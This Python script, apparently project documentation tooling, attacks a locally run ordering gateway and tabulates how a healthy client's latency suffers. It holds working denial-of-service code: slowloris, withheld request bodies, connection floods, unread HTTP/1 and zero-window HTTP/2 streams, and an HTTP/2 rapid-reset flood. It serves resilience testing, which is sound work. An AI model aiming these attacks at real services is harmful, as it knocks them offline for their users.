"""Attacks a gateway of one's own, and measures what a healthy client feels.

    python3 docs/attacks.py GATEWAY_URL [ATTACK ...]

Runs the attacks that docs/security-tests.md lists (all of them, or those that
are named), each for SECONDS (15) from 127.0.0.1. Meanwhile a healthy client at
127.0.0.2 reads an order and places orders, each request over a connection of
its own; it does the same right before each attack, so that every row of the
table that is printed compares a time without the attack to one with it.

The gateway must be on this machine (Linux: every address of 127.0.0.0/8 is
its own). Where customers need keys, the healthy client's is taken from
PIZZA_KEY, and another one, with which the attacker signs in to open page
streams, from PIZZA_ATTACKERS_KEY. The exit code is 1 when the healthy client was turned away
in an attack. Attackers never have more than COUNT connections or requests at
once, end with their time, and stop with this program. Standard library alone.
"""

import http.client
import json
import multiprocessing
import os
import resource
import selectors
import socket
import struct
import sys
import time
import urllib.parse

HEALTHY, ATTACKER = "127.0.0.2", "127.0.0.1"
SECONDS = float(os.environ.get("SECONDS", "15"))
# The healthy client stays below the gateway's default limits for one client.
READS_PER_SECOND, ORDERS_PER_SECOND = 20, 3
# How many connections an attacker opens before it looks at the others.
AT_ONCE = 50
KEY = os.environ.get("PIZZA_KEY", "")
ATTACKERS_KEY = os.environ.get("PIZZA_ATTACKERS_KEY", "")
# How long each step of a watched order takes, where that can be asked for.
WATCHED_STEP_SECONDS = 60


# The healthy client.


def ask(host, method, path, body=None):
    """Status, seconds and body of a request over a connection of its own; the
    status is 0 when there was no answer."""
    headers = {"authorization": "Bearer " + KEY} if KEY else {}
    if body is not None:
        headers["content-type"] = "application/json"
    began = time.monotonic()
    connection = http.client.HTTPConnection(
        host[0], host[1], timeout=30, source_address=(HEALTHY, 0)
    )
    try:
        connection.request(method, path, body, headers)
        answer = connection.getresponse()
        said = answer.read()
        return answer.status, time.monotonic() - began, said
    except OSError as error:
        return 0, time.monotonic() - began, str(error).encode()
    finally:
        connection.close()


def place(host, wish=None):
    return ask(host, "POST", "/orders", json.dumps(wish or {}))


def placed(host, wish=None):
    status, _, said = place(host, wish)
    if status != 201:
        sys.exit(f"no order can be placed: {status} {said.decode(errors='replace')}")
    return json.loads(said)["orderId"]


def watched_orders(host):
    """Eight orders that take long, where the gateway simulates that."""
    slow = {"perStepDelaySeconds": WATCHED_STEP_SECONDS}
    wish = slow if place(host, slow)[0] == 201 else None
    return [placed(host, wish) for _ in range(8)]


def healthy(host, order):
    """What a healthy client feels for a while: the seconds of its reads and of
    its orders, and the answers that turned it away."""
    reads, orders, refused = [], [], []
    began = time.monotonic()
    read_due = order_due = began
    while time.monotonic() - began < SECONDS:
        if time.monotonic() >= order_due:
            order_due += 1 / ORDERS_PER_SECOND
            note(place(host), 201, orders, refused)
        note(ask(host, "GET", "/orders/" + order), 200, reads, refused)
        read_due += 1 / READS_PER_SECOND
        time.sleep(max(0.0, read_due - time.monotonic()))
    return reads, orders, refused


def note(answer, expected, times, refused):
    status, seconds, said = answer
    if status == expected:
        times.append(seconds)
    else:
        refused.append((status, said.decode(errors="replace")))


def quantile(times, part):
    ordered = sorted(times)
    return ordered[min(len(ordered) - 1, int(part * len(ordered)))] * 1000 if ordered else 0.0


# The attackers: each is given the gateway, a deadline and a tally, and says how
# many connections it opened, how many of them the gateway ended, and which
# answers came.


class Tally:
    def __init__(self):
        self.opened, self.ended, self.answers = 0, 0, {}

    def heard(self, data):
        for line in data.split(b"HTTP/1.1 ")[1:]:
            status = line[:3].decode(errors="replace")
            self.answers[status] = self.answers.get(status, 0) + 1

    def __str__(self):
        answers = ", ".join(f"{count} x {status}" for status, count in sorted(self.answers.items()))
        return f"{self.opened} opened, {self.ended} ended by the gateway; {answers or 'no answers'}"


def connected(host, small=False):
    client = socket.socket()
    if small:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    client.settimeout(5)
    client.bind((ATTACKER, 0))
    client.connect(host)
    client.setblocking(False)
    return client


def crowd(host, deadline, tally, count, hello, every=None, reads=True, small=False):
    """Keeps `count` connections open that each say `hello`, and opens others
    for those that are ended. With `every`, each says that once a second, too.
    Without `reads`, nothing is read."""
    clients = selectors.DefaultSelector()
    spoken = time.monotonic()
    while time.monotonic() < deadline:
        for _ in range(min(AT_ONCE, count - len(clients.get_map()))):
            try:
                client = connected(host, small)
                tally.opened += 1
                client.send(hello)
                clients.register(client, selectors.EVENT_READ)
            except OSError:
                break
        if reads:
            hear(clients, tally)
        else:
            time.sleep(0.05)
        if time.monotonic() - spoken > 1:
            spoken = time.monotonic()
            for key in list(clients.get_map().values()):
                if (every or not reads) and not say(key.fileobj, every or b""):
                    leave(clients, key.fileobj, tally)
    for key in list(clients.get_map().values()):
        key.fileobj.close()


def hear(clients, tally):
    for key, _ in clients.select(0.05):
        try:
            data = key.fileobj.recv(65536)
        except BlockingIOError:
            continue
        except OSError:
            data = b""
        if data:
            tally.heard(data)
        else:
            leave(clients, key.fileobj, tally)


def say(client, words):
    """Whether the connection is still there."""
    if client.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
        return False
    try:
        client.send(words)
    except BlockingIOError:
        pass
    except OSError:
        return False
    return True


def leave(clients, client, tally):
    tally.ended += 1
    clients.unregister(client)
    client.close()


def request(method, path, *headers):
    return "\r\n".join([f"{method} {path} HTTP/1.1", "host: localhost", *headers, "", ""]).encode()


def held_bodies(host, deadline, tally, _):
    """300 requests whose body never comes."""
    header = ("content-type: application/json", "content-length: 9")
    crowd(host, deadline, tally, 300, request("POST", "/orders", *header))


def idle_connections(host, deadline, tally, _):
    """4,000 connections that asked once."""
    crowd(host, deadline, tally, 4000, request("GET", "/menu"))


def page_streams(host, deadline, tally, orders):
    """512 streams of one session, each of the same eight orders."""
    cookie = "cookie: " + session(host) if ATTACKERS_KEY else "accept: */*"
    stream = request("GET", "/shop/scenarios/live?orders=" + ".".join(orders), cookie)
    crowd(host, deadline, tally, 512, stream)


def session(host):
    """The cookie of a session of the attacker's."""
    form = urllib.parse.urlencode({"key": ATTACKERS_KEY})
    headers = {"content-type": "application/x-www-form-urlencoded"}
    connection = http.client.HTTPConnection(host[0], host[1], source_address=(ATTACKER, 0))
    connection.request("POST", "/sign-in", form, headers)
    return (connection.getresponse().getheader("set-cookie") or "").split(";")[0]


def unread_http1(host, deadline, tally, _):
    """1,000 connections that ask for pages and read none."""
    page = request("GET", "/openapi.json") * 20
    crowd(host, deadline, tally, 1000, page, every=page, reads=False, small=True)


def slow_loris(host, deadline, tally, _):
    """1,000 headers, of which a byte comes each second."""
    crowd(host, deadline, tally, 1000, b"GET /menu HTTP/1.1\r\na: ", every=b"b")


# HTTP/2, as far as the attacks need it.

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM_AND_HEADERS = 5
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def get(stream, path):
    """A GET; of its header, HPACK's static table has all but the path and the
    authority."""
    text = lambda value: bytes([len(value)]) + value.encode()
    block = b"\x82\x86\x04" + text(path) + b"\x01" + text("localhost")
    return frame(HEADERS, END_STREAM_AND_HEADERS, stream, block)


def opening(window):
    initial_window = struct.pack(">HI", 4, window)
    return PREFACE + frame(SETTINGS, 0, 0, initial_window)


def unread_http2(host, deadline, tally, _):
    """1,000 streams with a window of 0: 10 connections of 100."""
    asked = [get(2 * number + 1, "/openapi.json") for number in range(100)]
    crowd(host, deadline, tally, 10, opening(0) + b"".join(asked))


def rapid_reset(host, deadline, tally, _):
    """10 connections that each open and cancel 100 streams, 50 times a second."""
    clients = selectors.DefaultSelector()
    numbers = {}
    while time.monotonic() < deadline:
        while len(clients.get_map()) < 10:
            try:
                client = connected(host)
                tally.opened += 1
                client.send(opening(65535))
            except OSError:
                break
            numbers[client] = 1
            clients.register(client, selectors.EVENT_READ)
        for client in [key.fileobj for key in clients.get_map().values()]:
            streams = range(numbers[client], numbers[client] + 200, 2)
            cancel = struct.pack(">I", CANCEL)
            storm = [get(it, "/menu") + frame(RST_STREAM, 0, it, cancel) for it in streams]
            numbers[client] += 200
            # What was sent in part cannot be gone on with.
            if not sent_whole(client, b"".join(storm)):
                del numbers[client]
                leave(clients, client, tally)
        hear(clients, tally)
        time.sleep(0.02)
    for key in list(clients.get_map().values()):
        key.fileobj.close()


def sent_whole(client, data):
    try:
        return client.send(data) == len(data)
    except OSError:
        return False


ATTACKS = {
    "held-bodies": held_bodies,
    "idle-connections": idle_connections,
    "page-streams": page_streams,
    "unread-http1": unread_http1,
    "unread-http2": unread_http2,
    "slow-loris": slow_loris,
    "rapid-reset": rapid_reset,
}


# The table.


def attack(name, host, deadline, orders, said):
    tally = Tally()
    try:
        ATTACKS[name](host, deadline, tally, orders)
    finally:
        said.put(str(tally))


def row(name, host):
    """Runs an attack and prints its row; whether the client was served."""
    order = placed(host)
    orders = watched_orders(host) if name == "page-streams" else []
    before = healthy(host, order)
    said = multiprocessing.Queue()
    deadline = time.monotonic() + SECONDS + 1
    told = (name, host, deadline, orders, said)
    attacker = multiprocessing.Process(target=attack, args=told, daemon=True)
    attacker.start()
    time.sleep(1)
    during = healthy(host, order)
    outcome = said.get(timeout=60)
    attacker.join(60)
    cells = [name, ATTACKS[name].__doc__.splitlines()[0].rstrip("."), outcome]
    for without, under in zip(before[:2], during[:2]):
        pairs = [(quantile(without, part), quantile(under, part)) for part in (0.5, 0.99)]
        cells.extend(f"{one:.1f} / {other:.1f}" for one, other in pairs)
    served = sum(map(len, during[:2]))
    cells.append(f"{len(during[2])} of {served + len(during[2])}")
    print("| " + " | ".join(cells) + " |", flush=True)
    for status, detail in during[2][:3]:
        print(f"turned away: {status} {detail}", file=sys.stderr)
    # The kernel and the gateway forget what was left open.
    time.sleep(2)
    return not during[2]


def gateway(url):
    parts = urllib.parse.urlsplit(url)
    host = parts.hostname or ""
    if parts.scheme != "http" or not (host == "localhost" or host.startswith("127.")):
        sys.exit("the gateway must be one of this machine's, such as http://127.0.0.1:8080")
    return "127.0.0.1" if host == "localhost" else host, parts.port or 80


def main():
    if len(sys.argv) < 2:
        sys.exit(__doc__)
    names = sys.argv[2:] or list(ATTACKS)
    unknown = [name for name in names if name not in ATTACKS]
    if unknown:
        sys.exit(f"no attack is called {unknown[0]}; there are {', '.join(ATTACKS)}")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(soft, 5000), hard), hard))
    host = gateway(sys.argv[1])
    print("| attack | what is done | what became of it | read p50, ms | read p99 | order p50 | order p99 | turned away |")
    print("|---|---|---|---|---|---|---|---|", flush=True)
    results = [row(name, host) for name in names]
    sys.exit(0 if all(results) else 1)


if __name__ == "__main__":
    main()
